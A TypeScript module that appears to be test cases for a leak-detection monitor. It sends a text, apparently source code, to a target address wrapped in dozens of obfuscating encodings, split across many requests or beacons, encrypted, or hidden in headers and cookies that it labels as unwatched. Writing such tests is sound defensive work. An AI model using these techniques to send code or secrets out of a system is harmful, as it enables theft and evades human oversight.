/** One fetch, and the text wrapped in what real interfaces and hostile pages wrap it in. */
import type { Attempt, Wrap } from './attempt.ts';

/** Each makes a body of a text, in the page. */
const WRAPS: Readonly<Record<string, Wrap>> = {
  Base64: (text) => tools.base64(text),
  'Base64 in a data: address in JSON': (text) =>
    JSON.stringify({ file: { url: `data:text/plain;base64,${tools.base64(text)}` } }),
  'URL-safe Base64': (text) => tools.base64(text).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', ''),
  'Base64 of Base64': (text) => tools.base64(tools.base64(text)),
  hexadecimal: (text) => tools.hex(text),
  'JSON in JSON': (text) => JSON.stringify({ data: JSON.stringify({ text }) }),
  'JSON in JSON in a form field': (text) => {
    const inner = JSON.stringify([['prompt', JSON.stringify([[text]])]]);
    return new URLSearchParams({ 'f.req': inner });
  },
  'JSON in JSON in JSON in JSON': (text) => [1, 2, 3, 4].reduce((at) => JSON.stringify({ at }), text),
  'percent twice': (text) => `q=${encodeURIComponent(encodeURIComponent(text))}`,
  'unicode escapes': (text) =>
    JSON.stringify({ text: '' }).replace(
      '""',
      `"${[...text].map((letter) => `\\u${(letter.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`).join('')}"`,
    ),
  'HTML entities': (text) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join(''),
  'HTML of a highlighter': (text) =>
    `<pre><code>${text
      .split('\n')
      .map(
        (line) =>
          `<span class="line"><span style="color:#333">${line.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</span></span>`,
      )
      .join('\n')}</code></pre>`,
  gzip: (text) => tools.packed(text, 'gzip'),
  deflate: (text) => tools.packed(text, 'deflate'),
  'gzip of gzip': async (text) => tools.packed(await tools.packed(text, 'gzip'), 'gzip'),
  'gzip in Base64 in JSON': async (text) => JSON.stringify({ z: tools.base64(await tools.packed(text, 'gzip')) }),
  'deflate-raw in a zip': async (text) => {
    const data = await tools.packed(text, 'deflate-raw');
    const le = (value: number, bytes: number): number[] => tools.number(value, bytes).reverse();
    const name = [...tools.utf8('a.ts')];
    const size = tools.utf8(text).length;
    // The check sum is nobody's business: readers that look for code don't refuse an archive for it.
    const fields = [
      ...le(20, 2),
      ...le(0, 2),
      ...le(8, 2),
      ...le(0, 4),
      ...le(0, 4),
      ...le(data.length, 4),
      ...le(size, 4),
      ...le(4, 2),
      ...le(0, 2),
    ];
    const local = tools.joined([80, 75, 3, 4], fields, name, data);
    const central = tools.joined(
      [80, 75, 1, 2],
      le(20, 2),
      fields,
      le(0, 2),
      le(0, 2),
      le(0, 2),
      le(0, 4),
      le(0, 4),
      name,
    );
    const end = tools.joined(
      [80, 75, 5, 6],
      le(0, 4),
      le(1, 2),
      le(1, 2),
      le(central.length, 4),
      le(local.length, 4),
      le(0, 2),
    );
    return tools.joined(local, central, end);
  },
  MessagePack: (text) => {
    const bytes = tools.utf8(text);
    return tools.joined([0x81, 0xa4], tools.utf8('text'), [0xdb], tools.number(bytes.length, 4), bytes);
  },
  CBOR: (text) => {
    const bytes = tools.utf8(text);
    return tools.joined([0xa1, 0x64], tools.utf8('text'), [0x7a], tools.number(bytes.length, 4), bytes);
  },
  protobuf: (text) => {
    const varint = (value: number): number[] => (value < 128 ? [value] : [(value & 127) | 128, ...varint(value >>> 7)]);
    const bytes = tools.utf8(text);
    const inner = tools.joined([0x0a], varint(bytes.length), bytes);
    return tools.joined([0x08, 0x01, 0x12], varint(inner.length), inner);
  },
  'Connect framing': (text) => {
    const json = tools.utf8(JSON.stringify({ chat: { text } }));
    return tools.joined([0], tools.number(json.length, 4), json);
  },
  'Connect framing, compressed': async (text) => {
    const json = await tools.packed(JSON.stringify({ chat: { text } }), 'gzip');
    return tools.joined([1], tools.number(json.length, 4), json);
  },
  'SignalR: JSON': (text) =>
    `${JSON.stringify({ type: 6 })}\x1e${JSON.stringify({ type: 4, target: 'chat', arguments: [{ message: { text } }] })}\x1e`,
  'SignalR: MessagePack': (text) => {
    const bytes = tools.utf8(text);
    const message = tools.joined(
      [0x96, 1, 0x80, 0xc0, 0xa4],
      tools.utf8('chat'),
      [0x91, 0xdb],
      tools.number(bytes.length, 4),
      bytes,
      [0x90],
    );
    const varint = (value: number): number[] => (value < 128 ? [value] : [(value & 127) | 128, ...varint(value >>> 7)]);
    return tools.joined(varint(message.length), message);
  },
  'multipart by hand': (text) =>
    `--x\r\ncontent-disposition: form-data; name="a"; filename="a.ts"\r\n\r\n${text}\r\n--x--\r\n`,
  'multipart by hand, Base64 part': (text) =>
    `--x\r\ncontent-disposition: form-data; name="a"\r\ncontent-transfer-encoding: base64\r\n\r\n${tools.base64(text).replaceAll(/.{76}/g, '$&\r\n')}\r\n--x--\r\n`,
  'UTF-16, little-endian': (text) =>
    tools.joined([0xff, 0xfe], ...[...text].map((letter) => [letter.charCodeAt(0) & 255, letter.charCodeAt(0) >> 8])),
  'UTF-16, big-endian': (text) =>
    tools.joined(...[...text].map((letter) => [letter.charCodeAt(0) >> 8, letter.charCodeAt(0) & 255])),
  'one JSON string a line': (text) => JSON.stringify({ lines: text.split('\n') }),
  'one JSON document a line': (text) =>
    text
      .split('\n')
      .map((line, i) => JSON.stringify({ i, delta: { text: `${line}\n` } }))
      .join('\n'),
  'a diff': (text) =>
    `--- a/x.ts\n+++ b/x.ts\n@@ -1,3 +1,20 @@\n${text
      .split('\n')
      .map((line) => `+${line}`)
      .join('\n')}\n`,
  'numbered lines': (text) =>
    text
      .split('\n')
      .map((line, i) => `${String(i + 1).padStart(4)} | ${line}`)
      .join('\n'),
  'a notebook': (text) =>
    JSON.stringify({
      nbformat: 4,
      cells: [{ cell_type: 'code', source: text.split('\n').map((line) => `${line}\n`) }],
    }),
  'CDATA of XML': (text) => `<?xml version="1.0"?><m><![CDATA[${text}]]></m>`,
  'a JavaScript string, concatenated': (text) =>
    text
      .split('\n')
      .map((line) => `${JSON.stringify(`${line}\n`)} +`)
      .join('\n'),
  'one long line': (text) => text.replaceAll(/\s*\n\s*/g, ' '),
  'between much prose': (text) => {
    const prose =
      'The weather of the coast is mild, and the harbour lies open to the west wind all year round. '.repeat(400);
    return `${prose}\n\n${text}\n\n${prose}`;
  },
  'behind 300 kB of noise': (text) => {
    const noise = Array.from(
      { length: 6000 },
      (_one, i) => `${(i * 2_654_435_761) % 4_294_967_296} lorem ipsum ${i} dolor sit`,
    );
    return `${noise.join('\n')}\n${text}`;
  },
};

export const encodings: readonly Attempt[] = [
  ...Object.entries(WRAPS).map(([name, wrap]): Attempt => ({
    name: `encoding: ${name}`,
    reads: 'both',
    variant: name,
    wrap,
    run: async ({ text, to, variant }, wrapped) => {
      const body = await wrapped(text);
      const type = typeof body === 'string' ? 'text/plain' : 'application/octet-stream';
      if (body instanceof URLSearchParams) await fetch(to, { method: 'POST', body });
      else await tools.post(to, body, variant.startsWith('multipart') ? 'multipart/form-data; boundary=x' : type);
    },
  })),
  {
    name: 'unreadable: encrypted',
    isSealed: true,
    reads: 'none',
    run: async ({ text, to }) => {
      const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']);
      const iv = crypto.getRandomValues(new Uint8Array(12));
      await tools.post(to, await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, tools.utf8(text)));
    },
  },
];

/** Pieces that say nothing by themselves: the ledger puts them together. Some arrive before there is a match. */
export const splits: readonly Attempt[] = [
  {
    name: 'split: twenty posts of four lines',
    reads: 'both',
    lines: 80,
    // Before the tenth piece.
    most: 0.35,
    run: async ({ text, to }) => {
      const lines = text.split('\n');
      for (let i = 0; i < lines.length; i += 4) {
        await fetch(to, { method: 'POST', body: lines.slice(i, i + 4).join('\n') });
      }
    },
  },
  {
    name: 'split: many requests of 200 characters',
    reads: 'both',
    lines: 80,
    most: 0.35,
    run: async ({ text, to }) => {
      for (let at = 0; at < text.length; at += 200) {
        await fetch(to, { method: 'POST', body: text.slice(at, at + 200) });
      }
    },
  },
  {
    name: 'split: twenty beacons of four lines',
    reads: 'both',
    lines: 80,
    // The page doesn’t wait for one before it sends the next.
    most: 0.5,
    run: async ({ text, to }) => {
      const lines = text.split('\n');
      for (let i = 0; i < lines.length; i += 4) {
        navigator.sendBeacon(to, lines.slice(i, i + 4).join('\n'));
        await tools.pause(40);
      }
    },
  },
];

/** Nobody looks there, or what is there can't be told from noise. docs/threat-model.md names them. */
export const unguarded: readonly Attempt[] = [
  {
    name: 'not looked at: letters in reverse order',
    isSealed: true,
    reads: 'nobody',
    run: ({ text, to }) => fetch(to, { method: 'POST', body: [...text].reverse().join('') }),
  },
  {
    name: 'not looked at: a header of the request',
    reads: 'nobody',
    run: ({ text, to }) => fetch(to, { method: 'POST', body: 'x', headers: { 'x-text': tools.base64(text) } }),
  },
  {
    name: 'not looked at: a cookie',
    isAlone: true,
    reads: 'nobody',
    run: ({ text, to }) => {
      document.cookie = `t=${tools.base64(text).slice(0, 3900)}; path=/`;
      return fetch(to).finally(() => {
        document.cookie = 't=; path=/; max-age=0';
      });
    },
  },
];
